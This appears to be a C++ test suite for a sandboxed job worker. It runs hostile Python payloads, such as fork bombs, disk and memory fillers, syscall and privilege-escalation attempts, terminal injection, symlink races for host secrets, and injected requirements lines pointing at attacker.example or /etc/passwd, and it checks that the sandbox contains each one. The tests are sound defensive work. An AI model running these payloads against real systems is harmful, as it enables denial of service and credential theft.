// Programs that attack: the harm is not done, the end has its name, and the next job is unharmed.
#include <unistd.h>

#include "unit/worker/fake_context.hpp"

namespace nias::worker {
namespace {

using testing::AllOf;
using testing::AnyOf;
using testing::HasSubstr;

class BadInputTest : public RunnerTest {
protected:
    BadInputTest() {
        settings.max_processes = 64;
        settings.max_disk_bytes = 64U << 20U;
        settings.max_disk_files = 500;
        settings.default_memory_bytes = 256U << 20U;
    }
    Ran attack(const std::string& python) {
        return run({{"code.py", python}}, [](Task& task, FakeContext&) { task.spec.time_limit_ms = 60'000; });
    }
    void TearDown() override {
        const Ran next = run({{"code.py", "open('output/x', 'w').write('x')\nprint('unharmed')\n"}});
        EXPECT_EQ(next.outcome.status, OutcomeStatus::succeeded) << next.outcome.error;
        EXPECT_EQ(next.log, "unharmed\n");
        EXPECT_EQ(next.files.count("x"), 1U);
    }
};

constexpr auto kForkBomb =
    "import os, time\n"
    "made = 0\n"
    "try:\n"
    "    while True:\n"
    "        if os.fork() == 0: time.sleep(600)\n"
    "        made += 1\n"
    "except OSError:\n"
    "    print(made, flush=True)\n"
    "    raise\n";

TEST_F(BadInputTest, AForkBombEndsAtTheBoundOfProcesses) {
    const Ran ran = attack(kForkBomb);
    EXPECT_GT(std::stoi("0" + ran.log), 40) << ran.log;
    EXPECT_LT(std::stoi("0" + ran.log), 64) << ran.log;
    EXPECT_EQ(ran.outcome.cause, Cause::exit_code);
    EXPECT_THAT(ran.outcome.error, HasSubstr("BlockingIOError"));
    if (cgroups.limits_processes()) {
        EXPECT_THAT(ran.outcome.error, HasSubstr("it had reached the 64 processes and threads"));
    }
}

TEST_F(BadInputTest, AForkBombEndsWithoutControlGroupsToo) {
    cgroups = Cgroups::none();
    settings.default_memory_bytes = 0;  // else a limit of address space
    const Ran ran = attack(kForkBomb);
    EXPECT_GT(std::stoi("0" + ran.log), 40) << ran.log << ran.outcome.error;
    EXPECT_LT(std::stoi("0" + ran.log), 65) << ran.log;
    EXPECT_THAT(ran.outcome.error, HasSubstr("BlockingIOError"));
    EXPECT_NE(attack("import os, resource\n"
                     "resource.setrlimit(resource.RLIMIT_NPROC, (4096, 4096))\n" +
                     std::string(kForkBomb))
                  .outcome.status,
              OutcomeStatus::succeeded)
        << "and the bound cannot be raised";
}

/// Attacks on the disk, each with the words of its end.
struct Filler {
    const char* name;
    const char* python;
    const char* words;
};
class DiskFillerTest : public BadInputTest, public testing::WithParamInterface<Filler> {
protected:
    DiskFillerTest() { settings.default_memory_bytes = 2ULL << 30U; }  // also as a limit of address space
};

TEST_P(DiskFillerTest, EndsWithItsNameWhileTheDiskHasRoom) {
    const Ran ran = attack(GetParam().python);
    EXPECT_EQ(ran.outcome.status, OutcomeStatus::failed) << ran.log;
    EXPECT_EQ(ran.outcome.cause, Cause::disk_quota) << ran.outcome.error;
    EXPECT_THAT(ran.outcome.error, HasSubstr(GetParam().words));
}

INSTANTIATE_TEST_SUITE_P(BadInput, DiskFillerTest,
                         testing::Values(Filler{"OneFile",
                                                "f = open('output/f', 'wb')\n"
                                                "while True: f.write(bytes(1 << 20)); f.flush()\n",
                                                "wrote more than the 64 MiB"},
                                         Filler{"ManyFiles",
                                                "import os, time\n"
                                                "for i in range(10 ** 9):\n"
                                                "    os.makedirs(f'd{i // 100}', exist_ok=True)\n"
                                                "    open(f'd{i // 100}/{i}', 'w').close()\n"
                                                "    if i > 600: time.sleep(0.1)\n",
                                                "made more than the 500 files"},
                                         Filler{"AFileWithoutAName",
                                                "import os\n"
                                                "f = open('f', 'wb')\n"
                                                "os.unlink('f')\n"
                                                "while True:\n"
                                                "    f.write(bytes(1 << 20)); f.flush()\n"
                                                "    if f.tell() > 256 << 20: f.seek(0)\n",
                                                "wrote more than the 64 MiB"},
                                         Filler{"AMappedFileWithoutAName",
                                                "import mmap, os, time\n"
                                                "f = open('f', 'w+b')\n"
                                                "f.truncate(256 << 20)\n"
                                                "m = mmap.mmap(f.fileno(), 256 << 20)\n"
                                                "f.close()\n"
                                                "os.unlink('f')\n"
                                                "while True:\n"
                                                "    for i in range(0, 256 << 20, 4096): m[i] = 1\n",
                                                "wrote more than the 64 MiB"},
                                         Filler{"AClosedFolder",
                                                "import os\n"
                                                "os.mkdir('d')\n"
                                                "f = open('d/f', 'wb')\n"
                                                "os.chmod('d', 0)\n"
                                                "while True:\n"
                                                "    f.write(bytes(1 << 20)); f.flush()\n"
                                                "    if f.tell() > 256 << 20: f.seek(0)\n",
                                                "wrote more than the 64 MiB"},
                                         Filler{"DeepFolders",
                                                "import os, time\n"
                                                "for i in range(200): os.mkdir('d'); os.chdir('d')\n"
                                                "open('f', 'wb').write(bytes(1 << 20))\n"
                                                "time.sleep(600)\n",
                                                "folders in folders more than 64 deep"}),
                         [](const auto& each) { return each.param.name; });

TEST_F(BadInputTest, AFileOfHolesTakesNoRoomAndComesBackNamed) {
    const Ran ran = attack("f = open('output/holes', 'wb')\nf.truncate(8 << 40)\nprint('ok')\n");
    EXPECT_EQ(ran.log, "ok\n");
    EXPECT_EQ(ran.files.count("holes"), 0U);
    EXPECT_THAT(ran.outcome.notes, testing::Contains(HasSubstr("holes")));
}

/// Each call that would reach beyond the box, and the error that it gets instead.
constexpr auto kRefused =
    "import ctypes, errno, fcntl, os, pty, signal, socket\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "def call(number, *a):\n"
    "    return 'allowed' if libc.syscall(number, *a) >= 0 else errno.errorcode[ctypes.get_errno()]\n"
    "def attempt(act):\n"
    "    try: act(); return 'allowed'\n"
    "    except OSError as e: return errno.errorcode[e.errno]\n";

struct Attack {
    const char* name;
    const char* python;  ///< after kRefused; `HOST` is a file of the host, `PID` a process of it
    const char* log;     ///< exactly
};
class AttackTest : public BadInputTest, public testing::WithParamInterface<Attack> {};

TEST_P(AttackTest, IsRefusedAndTheJobGoesOn) {
    test::write_file(folder() + "/keys/worker.key", "secret");
    test::write_file(folder() + "/neighbour/other-1/job/data.csv", "secret");
    const std::string places = "HOST = ['" + folder() + "/keys/worker.key', '" + folder() +
                               "/neighbour/other-1/job/data.csv']\nPID = " + std::to_string(::getpid()) +
                               "\n";
    const Ran ran = attack(kRefused + places + GetParam().python);
    EXPECT_EQ(ran.outcome.status, OutcomeStatus::succeeded) << ran.outcome.error << "\n" << ran.log;
    EXPECT_EQ(ran.log, GetParam().log);
}

INSTANTIATE_TEST_SUITE_P(
    BadInput, AttackTest,
    testing::Values(
        Attack{"SignalsToTheSupervisor",
               "for number in [signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM]: os.kill(1, number)\n"
               "print('alive', sorted(p for p in os.listdir('/proc') if p.isdigit()) == ['1', "
               "str(os.getpid())])\n",
               "alive True\n"},
        Attack{"Neighbours",
               "print(attempt(lambda: os.kill(PID, 0)), attempt(lambda: os.listdir(f'/proc/{PID}')), "
               "call(101, 16, PID, 0, 0), call(310, PID, 0, 0, 0, 0, 0), call(434, PID, 0))\n"
               "print(attempt(lambda: os.setpriority(os.PRIO_PROCESS, PID, 5)))\n",
               "ESRCH ENOENT EPERM EPERM ESRCH\nESRCH\n"},
        Attack{"OtherJobsAndKeys",
               "for path in HOST:\n"
               "    for root in ['', '/proc/1/root', '/proc/self/root', '/proc/self/cwd/../..']:\n"
               "        if attempt(lambda: open(root + path)) == 'allowed': print(root + path)\n"
               "print('that is all')\n",
               "that is all\n"},
        Attack{"MoreRights",
               "print(attempt(lambda: os.setuid(0)), attempt(lambda: os.setgid(0)), "
               "attempt(lambda: os.setgroups([0])))\n"
               "open('f', 'w').close(); os.chmod('f', 0o6755)\n"
               "print(os.system('/bin/mount -t tmpfs x /tmp 2>/dev/null') != 0)\n"
               "print(attempt(lambda: os.mknod('d', 0o20666, os.makedev(1, 1))), attempt(lambda: "
               "os.chroot('/tmp')))\n",
               "EINVAL EINVAL EPERM\nTrue\nEPERM EPERM\n"},
        Attack{
            "DangerousCalls",
            "print('mount', call(165, 0, b'/', 0, 32, 0), 'bpf', call(321, 0, 0, 0), 'keyctl', call(250, 0, "
            "0), "
            "'add_key', call(248, 0, 0, 0, 0, 0), 'io_uring', call(425, 1, 0), 'unshare', call(272, "
            "0x10000000), "
            "'clone', call(56, 0x10000011, 0, 0, 0, 0), 'clone3', call(435, 0, 0), 'userfaultfd', call(323, "
            "0), "
            "'perf', call(298, 0, 0, 0, 0, 0), 'fsopen', call(430, b'tmpfs', 0), 'setns', call(308, 0, 0))\n",
            "mount EPERM bpf EPERM keyctl EPERM add_key EPERM io_uring EPERM unshare EPERM clone EPERM "
            "clone3 ENOSYS userfaultfd EPERM perf EPERM fsopen EPERM setns EPERM\n"},
        Attack{"WordsIntoATerminal",
               "import termios\n"
               "ours, theirs = pty.openpty()\n"
               "print(attempt(lambda: fcntl.ioctl(theirs, termios.TIOCSTI, b'x')), "
               "attempt(lambda: fcntl.ioctl(theirs, 0x541C, b'\\x02')), attempt(lambda: os.open('/dev/tty', "
               "2)))\n",
               "EPERM EPERM ENXIO\n"}),
    [](const auto& each) { return each.param.name; });

/// Ways to take memory that no single process shows.
class MemoryTest : public BadInputTest,
                   public testing::WithParamInterface<std::pair<const char*, const char*>> {};

/// Small file systems in memory are full before the job's memory is, and say so.
TEST_P(MemoryTest, EndsByNameWithoutControlGroupsToo) {
    cgroups = Cgroups::none();
    const Ran ran = attack(GetParam().second);
    EXPECT_EQ(ran.outcome.status, OutcomeStatus::failed);
    EXPECT_THAT(ran.outcome.error,
                AnyOf(HasSubstr("ran out of memory: it needed more than its limit of 256 MiB"),
                      HasSubstr("No space left on device")));
}

TEST_P(MemoryTest, EndsAsOutOfMemoryByName) {
    if (!cgroups.limits_memory()) { GTEST_SKIP() << "no memory control group can be made here"; }
    const Ran ran = attack(GetParam().second);
    EXPECT_EQ(ran.outcome.cause, Cause::out_of_memory) << ran.outcome.error << ran.log;
    EXPECT_THAT(ran.outcome.error, HasSubstr("256 MiB"));
}

INSTANTIATE_TEST_SUITE_P(
    BadInput, MemoryTest,
    testing::Values(
        std::pair{"Children",
                  "import os, signal, sys\n"
                  "made = []\n"
                  "for i in range(8):\n"
                  "    pid = os.fork()\n"
                  "    if pid == 0: x = bytearray(64 << 20); signal.pause()\n"
                  "    made.append(pid)\n"
                  "os.wait()\n"
                  "sys.exit(1)\n"},
        std::pair{"Files", "f = open('/tmp/f', 'wb')\nwhile True: f.write(bytes(1 << 20))\n"},
        std::pair{"SharedMemory", "f = open('/dev/shm/f', 'wb')\nwhile True: f.write(bytes(1 << 20))\n"},
        std::pair{"FilesOfNoFolder",
                  "import os\nf = os.memfd_create('f')\nwhile True: os.write(f, bytes(1 << 20))\n"}),
    [](const auto& each) { return each.param.first; });

TEST_F(BadInputTest, FilesInMemoryAreBoundedWithoutControlGroupsToo) {
    cgroups = Cgroups::none();
    const Ran ran = attack(
        "import os\n"
        "for place in ['/tmp/f', '/dev/shm/f']:\n"
        "    try:\n"
        "        with open(place, 'wb') as f:\n"
        "            while f.tell() < 1 << 30: f.write(bytes(1 << 20)); f.flush()\n"
        "            print('unbounded')\n"
        "    except OSError as e: print(e.strerror)\n"
        "    os.remove(place)\n");
    EXPECT_EQ(ran.log, "No space left on device\nNo space left on device\n");
}

TEST_F(BadInputTest, ALogWithoutALineEndIsBounded) {
    settings.max_log_bytes = 100'000;
    const Ran ran = attack("import sys\nfor i in range(64): sys.stdout.write('x' * (1 << 20))\n");
    EXPECT_EQ(ran.outcome.status, OutcomeStatus::succeeded) << ran.outcome.error;
    EXPECT_LT(ran.log.size(), 110'000U);
}

TEST_F(BadInputTest, ASwapWhileItIsPackedBringsNothingOfTheHostBack) {
    test::write_file(folder() + "/secret", "other people's data");
    const Ran ran = attack(
        "import os\n"
        "open('output/a', 'w').write('mine')\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    while True:\n"
        "        os.symlink('" +
        folder() +
        "/secret', 'output/link')\n"
        "        os.replace('output/link', 'output/a')\n"
        "        open('output/file', 'w').write('mine')\n"
        "        os.replace('output/file', 'output/a')\n");
    EXPECT_EQ(ran.outcome.status, OutcomeStatus::succeeded) << ran.outcome.error;
    for (const auto& [name, content] : ran.files) {
        EXPECT_EQ(content.find("people's data"), std::string::npos);
    }
}

TEST_F(BadInputTest, OutputsThatAreNoFilesAreNamedAndLeftOut) {
    const Ran ran = attack(
        "import os, socket\n"
        "os.mkfifo('output/pipe'); os.symlink('/etc/passwd', 'output/link')\n"
        "socket.socket(socket.AF_UNIX).bind('output/socket')\n"
        "open('output/kept', 'w').write('x')\n");
    EXPECT_EQ(ran.files.size(), 2U) << "kept, and nias-job.json";
    for (const char* name : {"pipe", "link", "socket"}) {
        EXPECT_THAT(ran.outcome.notes, testing::Contains(HasSubstr(name)));
    }
}

TEST_F(BadInputTest, RequirementsThatAttackAreRefusedAndASetupIsNotRun) {
    for (const char* line :
         {"-e .", ".", "--index-url http://attacker.example/", "git+file:///job", "-r /etc/passwd",
          "x @ file:///job/x.whl", "../../../wheel.whl", "$(touch /job/ran)"}) {
        const Ran ran = run({{"code.py", "print(1)\n"},
                             {"setup.py", "open('/job/output/ran', 'w').write('x')\n"},
                             {"requirements.txt", std::string(line) + "\n"}});
        EXPECT_EQ(ran.outcome.cause, Cause::bad_bundle) << line << ": " << ran.outcome.error;
        EXPECT_EQ(ran.starts, 0) << line;
    }
    const Ran ran =
        run({{"code.py", "print(1)\n"}, {"setup.py", "open('/job/output/ran', 'w').write('x')\n"}});
    EXPECT_EQ(ran.log, "1\n");
    EXPECT_EQ(ran.files.count("ran"), 0U);
}

TEST_F(BadInputTest, FilesThatShadowTheToolsOfTheWorkerAreNotRun) {
    const std::string attacker = "open('/job/output/ran', 'w').write('x')\n";
    Files files{{"code.py", "print('ok')\n"}};
    for (const char* name :
         {"pip.py", "venv.py", "sitecustomize.py", "usercustomize.py", "bwrap", "python3", "bin/python3"}) {
        files[name] = attacker;
    }
    const Ran ran = run(files);
    EXPECT_EQ(ran.log, "ok\n") << ran.outcome.error;
    EXPECT_EQ(ran.files.count("ran"), 0U);
}

}  // namespace
}  // namespace nias::worker
